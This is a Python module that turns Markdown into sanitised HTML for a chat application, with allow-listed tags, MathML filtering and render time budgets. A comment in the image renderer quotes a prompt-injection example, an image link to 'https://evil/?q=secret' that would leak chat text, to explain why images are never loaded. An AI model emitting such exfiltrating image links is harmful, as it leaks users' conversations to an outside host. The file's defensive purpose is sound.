"""Markdown → sanitised HTML for every domain that shows text (messages, ideas, prompts, shares).

Pipeline: markdown-it-py (commonmark + tables + strikethrough, raw HTML off) →
Pygments for fenced code, latex2mathml for math (``$…$``, ``$$…$$``, ``\\(…\\)``, ``\\[…\\]``:
MathML, which the browser draws itself, no script) → nh3 on the final HTML. The sanitiser is always
the last step (Open WebUI GHSA-fq3v-xjjx-95rc sanitised before parsing and lost).

Rendering has a budget: markdown-it-py spends tens of microseconds on each "![" or "[" (a
32,000-character "![![![…" took about a second), so once RENDER_BUDGET_SECONDS have passed, the
remaining inline text is shown escaped, with its line breaks, still through the sanitiser. Text that
renders within the budget (everything a person or a model writes) comes out exactly as before.

Nothing here imports Flask: callers store the result next to the Markdown with
``RENDERER_VERSION`` and wrap it in ``Markup`` inside an ``hx-disable`` element.
"""

from __future__ import annotations

import html
import re
import time
from functools import lru_cache
from xml.etree.ElementTree import Element, tostring

import nh3
from latex2mathml.converter import convert_to_element
from markdown_it import MarkdownIt
from markdown_it.token import Token
from mdit_py_plugins.dollarmath import dollarmath_plugin
from pygments import highlight
from pygments.formatters import HtmlFormatter
from pygments.lexers import get_all_lexers, get_lexer_by_name
from pygments.token import STANDARD_TYPES

__all__ = [
    "RENDERER_VERSION",
    "CODE_LANGUAGES",
    "render_markdown_safe",
    "render_plain_safe",
]

# Bump whenever the output for the same input can change (pipeline, nh3 rules,
# Pygments classes), so stored HTML is re-rendered.
RENDERER_VERSION = 2

# Above this size a code block is shown as plain escaped text: highlighting is
# the costliest step and some lexers are super-linear on hostile input.
MAX_HIGHLIGHT_CHARS = 100_000

# Time one render may take before the rest is shown as escaped text (see the module docstring).
RENDER_BUDGET_SECONDS = 0.25

# A longer formula is shown as its source: latex2mathml is pure Python and recursive.
MAX_FORMULA_CHARS = 4_000

_LANGUAGE_NAME = re.compile(r"[a-z0-9+#-]{1,30}")
# Half of a surrogate pair (JSON can spell "\ud83d") is not a character: UTF-8 cannot encode it.
_LONE_SURROGATE = re.compile("[\ud800-\udfff]")


def _code_languages() -> frozenset[str]:
    """Aliases of Pygments' built-in lexers that are safe to echo as a class."""
    names: set[str] = set()
    for _name, aliases, _patterns, _mimetypes in get_all_lexers(plugins=False):
        names.update(a for a in aliases if _LANGUAGE_NAME.fullmatch(a))
    return frozenset(names)


CODE_LANGUAGES: frozenset[str] = _code_languages()

# Pygments' short CSS classes ("k", "nf", "s2", ...); "" is plain text.
_TOKEN_CLASSES = frozenset(c for c in STANDARD_TYPES.values() if c)
_ALIGN_CLASSES = frozenset({"align-left", "align-center", "align-right"})

# Exactly the tags the Markdown renderer below can emit; nh3's defaults narrowed.
_ALLOWED_TAGS = frozenset({
    "a", "blockquote", "br", "code", "div", "em", "h1", "h2", "h3", "h4", "h5",
    "h6", "hr", "li", "ol", "p", "pre", "s", "span", "strong", "table", "tbody",
    "td", "th", "thead", "tr", "ul",
})

# Exactly the MathML elements and attributes latex2mathml emits, less what can link or paint:
# href (\href), mathcolor and mathbackground (\color, \colorbox, \rule), xmlns (HTML has no use
# for it). No maction, semantics, annotation(-xml) or mglyph: latex2mathml never writes them.
_MATH_ATTRIBUTES: dict[str, set[str]] = {
    "math": {"display"},
    "menclose": {"notation"},
    "mfrac": {"linethickness"},
    "mi": {"mathvariant"},
    "mn": {"mathvariant"},
    "mo": {
        "accent", "fence", "form", "largeop", "lspace", "maxsize", "minsize", "movablelimits",
        "rspace", "separator", "stretchy",
    },
    "mover": {"accent"},
    "mpadded": {"depth", "height", "lspace", "voffset", "width"},
    "mphantom": set(),
    "mroot": set(),
    "mrow": set(),
    "mspace": {"depth", "height", "linebreak", "width"},
    "msqrt": set(),
    "mstyle": {"displaystyle", "mathsize", "scriptlevel"},
    "msub": set(),
    "msubsup": set(),
    "msup": set(),
    "mtable": {"columnalign", "columnlines", "columnspacing", "displaystyle", "rowlines", "rowspacing"},
    "mtd": {"columnalign"},
    "mtext": {"mathvariant"},
    "mtr": set(),
    "munder": set(),
    "munderover": set(),
}
# MathML attribute values are keywords and lengths ("true", "0.167em", "-1width", "0em 2em").
_MATH_VALUE = re.compile(r"[a-z0-9.+\- ]{1,60}")
_MATH_NUMBER = re.compile(r"\d*\.?\d+")
# \hspace{-99em} or \rule{900em}{900em} could push math over the rest of the page.
_MAX_MATH_LENGTH = 10


def _filter_math_attribute(element: str, attribute: str, value: str) -> str | None:
    """Keep a MathML attribute value only if it is a plain keyword or a modest length."""
    if element not in _MATH_ATTRIBUTES:
        return value
    if not _MATH_VALUE.fullmatch(value):
        return None
    if any(float(number) > _MAX_MATH_LENGTH for number in _MATH_NUMBER.findall(value)):
        return None
    return value


_CLEANER = nh3.Cleaner(
    tags=set(_ALLOWED_TAGS) | set(_MATH_ATTRIBUTES),
    # Dropped together with their content if they ever get this far.
    clean_content_tags={
        "script", "style", "template", "noscript", "iframe", "object", "embed",
        "svg", "textarea", "select", "xmp", "noembed", "noframes",
        "annotation", "annotation-xml", "semantics", "maction", "mglyph", "malignmark",
    },
    # No style, id, data-*, hx-*, on*, target: only these attributes survive.
    attributes={"a": {"href", "title"}, "ol": {"start"}, **_MATH_ATTRIBUTES},
    attribute_filter=_filter_math_attribute,
    generic_attribute_prefixes=None,
    # class only through this allow-list: Pygments tokens and fixed wrappers.
    allowed_classes={
        "span": set(_TOKEN_CLASSES) | {"math-display"},
        "div": {"codeblock", "table-wrap", "math-display"},
        "code": {f"language-{name}" for name in CODE_LANGUAGES} | {"math-error"},
        "th": set(_ALIGN_CLASSES),
        "td": set(_ALIGN_CLASSES),
    },
    url_schemes={"http", "https", "mailto"},
    # Relative links would point into the app itself (also from /s/<token>).
    url_relative="deny",
    link_rel="noopener noreferrer nofollow",
    strip_comments=True,
)

_FORMATTER = HtmlFormatter(nowrap=True, classprefix="")


def _highlight_code(code: str, info: str) -> str:
    """A fenced/indented code block as HTML; unknown languages stay plain text."""
    words = info.split(maxsplit=1)
    language = words[0].lower() if words else ""
    if language in CODE_LANGUAGES and len(code) <= MAX_HIGHLIGHT_CHARS:
        try:
            lexer = get_lexer_by_name(language, stripnl=False)
            body = highlight(code, lexer, _FORMATTER)
        except Exception:  # any lexer failure (ClassNotFound included) → plain text
            body = None
        if body is not None:
            return (
                f'<div class="codeblock"><pre><code class="language-{language}">'
                f"{body}</code></pre></div>\n"
            )
    return (
        '<div class="codeblock"><pre><code>'
        f"{html.escape(code, quote=False)}</code></pre></div>\n"
    )


def _render_fence(self, tokens, idx, options, env) -> str:
    token = tokens[idx]
    return _highlight_code(token.content, "" if _is_over_budget(env) else token.info)


def _render_code_block(self, tokens, idx, options, env) -> str:
    return _highlight_code(tokens[idx].content, "")


def _render_image(self, tokens, idx, options, env) -> str:
    # Images never load: a prompt-injected ![](https://evil/?q=secret) would
    # leak chat text just by being displayed. Show the alt text instead.
    alt = self.renderInlineAsText(tokens[idx].children or [], options, env)
    return html.escape(alt, quote=False)


def _render_table_open(self, tokens, idx, options, env) -> str:
    return '<div class="table-wrap"><table>\n'


def _render_table_close(self, tokens, idx, options, env) -> str:
    return "</table></div>\n"


def _render_cell_open(self, tokens, idx, options, env) -> str:
    # markdown-it writes alignment as style="text-align:…"; style is never
    # allowed, so turn it into a fixed class.
    token = tokens[idx]
    style = token.attrGet("style") or ""
    align = style.partition("text-align:")[2].strip()
    css_class = f"align-{align}"
    if css_class in _ALIGN_CLASSES:
        return f'<{token.tag} class="{css_class}">'
    return f"<{token.tag}>"


# latex2mathml expands \newcommand and friends: refuse them rather than bound their expansion.
_MACRO_DEFINITION = re.compile(r"\\(?:(?:re)?newcommand|providecommand|def|gdef|edef|let)(?![a-zA-Z])")
# latex2mathml writes symbols as "&#x…;" text and unescapes its whole output, which would also
# turn a "<" typed in \text{…} into markup: the entities are decoded in the tree instead.
_CHARACTER_REFERENCE = re.compile(r"&#x([0-9a-fA-F]{1,6});")


def _decode_references(text: str | None) -> str | None:
    if not text:
        return text
    return _CHARACTER_REFERENCE.sub(lambda match: chr(int(match[1], 16)), text)


@lru_cache(maxsize=1024)
def _latex_to_mathml(tex: str, display: bool) -> str | None:
    """A formula as a MathML element, or None when latex2mathml cannot read it."""
    if len(tex) > MAX_FORMULA_CHARS or _MACRO_DEFINITION.search(tex):
        return None
    try:
        tree: Element = convert_to_element(tex, display="block" if display else "inline")
    except Exception:  # any parser failure (RecursionError on deep nesting included) → source
        return None
    for element in tree.iter():
        element.text = _decode_references(element.text)
        element.tail = _decode_references(element.tail)
    # xmlns is the XML way to say "MathML"; in HTML the <math> tag says it.
    tree.attrib.pop("xmlns", None)
    return tostring(tree, encoding="unicode", short_empty_elements=False)


def _render_math(token: Token, display: bool, env) -> str:
    """MathML for a formula; its source as code when it does not convert or time is up."""
    mathml = None if _is_over_budget(env) else _latex_to_mathml(token.content.strip(), display)
    if mathml is not None:
        return mathml
    source = f"{token.markup}{token.content}{_CLOSING[token.markup]}"
    return f'<code class="math-error">{html.escape(source, quote=False)}</code>'


def _render_math_inline(self, tokens, idx, options, env) -> str:
    return _render_math(tokens[idx], False, env)


def _render_math_display_inline(self, tokens, idx, options, env) -> str:
    # Display math inside a paragraph: a span (a div would end the <p>) laid out as a block.
    return f'<span class="math-display">{_render_math(tokens[idx], True, env)}</span>'


def _render_math_block(self, tokens, idx, options, env) -> str:
    return f'<div class="math-display">{_render_math(tokens[idx], True, env)}</div>\n'


_CLOSING = {"$": "$", "$$": "$$", "\\(": "\\)", "\\[": "\\]"}


def _math_brackets(state, silent: bool) -> bool:
    r"""Inline rule for \(…\) (inline) and \[…\] (display), also inside a paragraph.

    mdit-py-plugins' texmath "brackets" takes \[ only at the start of a block (models often write
    it on the line after text) and slices the rest of the source at every candidate; this scans
    once for the closing delimiter and remembers where none is left.
    """
    opening = state.src[state.pos : state.pos + 2]
    if opening not in ("\\(", "\\["):
        return False
    closing = _CLOSING[opening]
    start = state.pos + 2
    unclosed = state.env.setdefault("math_unclosed", {}) if isinstance(state.env, dict) else {}
    key = (closing, state.posMax, state.src)
    if start >= unclosed.get(key, len(state.src) + 1):
        return False
    end = state.src.find(closing, start, state.posMax)
    if end < 0:
        unclosed[key] = min(start, unclosed.get(key, start))
        return False
    if not state.src[start:end].strip():
        return False
    if not silent:
        token = state.push("math_inline" if opening == "\\(" else "math_inline_double", "math", 0)
        token.content = state.src[start:end]
        token.markup = opening
    state.pos = end + 2
    return True


class _OverBudget(Exception):
    """Raised inside markdown-it's inline parser when the render's deadline has passed."""


def _is_over_budget(env) -> bool:
    deadline = env.get("render_deadline") if isinstance(env, dict) else None
    return deadline is not None and time.perf_counter() > deadline


def _with_deadline(rule):
    """An inline rule that first checks the render's deadline (the costly work is in these rules)."""

    def checked(state, *args):
        if _is_over_budget(state.env):
            raise _OverBudget
        return rule(state, *args)

    return checked


def _escaped_inline(content: str) -> list[Token]:
    """Inline text as plain text tokens: escaped when rendered, newlines kept as line breaks."""
    children: list[Token] = []
    for number, line in enumerate(content.split("\n")):
        if number:
            children.append(Token("softbreak", "br", 0))
        children.append(Token("text", "", 0, content=line))
    return children


def _parse_inline_within_budget(state) -> None:
    """markdown-it's core "inline" rule, falling back to escaped text once the deadline passes."""
    for token in state.tokens:
        if token.type != "inline":
            continue
        if not _is_over_budget(state.env):
            children: list[Token] = []
            try:
                state.md.inline.parse(token.content, state.md, state.env, children)
                token.children = children
                continue
            except _OverBudget:
                pass
        token.children = _escaped_inline(token.content)


def _build_markdown() -> MarkdownIt:
    md = MarkdownIt(
        "commonmark",
        # html=False: raw HTML in the input is shown as text, never parsed.
        # breaks=True: a typed newline is a line break (chat, not documents).
        {"html": False, "breaks": True, "linkify": False, "typographer": False},
    ).enable(["table", "strikethrough"])
    md.add_render_rule("fence", _render_fence)
    md.add_render_rule("code_block", _render_code_block)
    md.add_render_rule("image", _render_image)
    md.add_render_rule("table_open", _render_table_open)
    md.add_render_rule("table_close", _render_table_close)
    md.add_render_rule("th_open", _render_cell_open)
    md.add_render_rule("td_open", _render_cell_open)
    # Math: "$…$" only around text that starts and ends with no space or digit beside a dollar,
    # so "$5 and $10" stay prices; "$$…$$" on its own lines or inside a paragraph is display math.
    dollarmath_plugin(md, allow_labels=False, allow_space=False, allow_digits=False,
                      allow_blank_lines=False, double_inline=True)
    md.inline.ruler.before("escape", "math_brackets", _math_brackets)
    md.add_render_rule("math_inline", _render_math_inline)
    md.add_render_rule("math_inline_double", _render_math_display_inline)
    md.add_render_rule("math_block", _render_math_block)
    md.core.ruler.at("inline", _parse_inline_within_budget)
    # "text" only skips ordinary characters; every other rule is where time can go.
    for ruler in (md.inline.ruler, md.inline.ruler2):
        for rule in list(ruler.__rules__):
            if rule.name != "text":
                ruler.at(rule.name, _with_deadline(rule.fn))
    return md


_MARKDOWN = _build_markdown()


def render_markdown_safe(text: str | None, *, budget_seconds: float | None = None) -> str:
    """Render Markdown to HTML that is safe to insert into a page as-is, within `budget_seconds`
    (RENDER_BUDGET_SECONDS unless given; see the module's docstring)."""
    if not text:
        return ""
    budget = RENDER_BUDGET_SECONDS if budget_seconds is None else budget_seconds
    env = {"render_deadline": time.perf_counter() + budget}
    return _CLEANER.clean(_MARKDOWN.render(_LONE_SURROGATE.sub("\ufffd", text), env))


def render_plain_safe(text: str | None) -> str:
    """Escape text for HTML, keeping its line breaks (for streaming previews)."""
    if not text:
        return ""
    text = _LONE_SURROGATE.sub("\ufffd", text)
    escaped = html.escape(text.replace("\r\n", "\n").replace("\r", "\n"), quote=True)
    return escaped.replace("\n", "<br>\n")
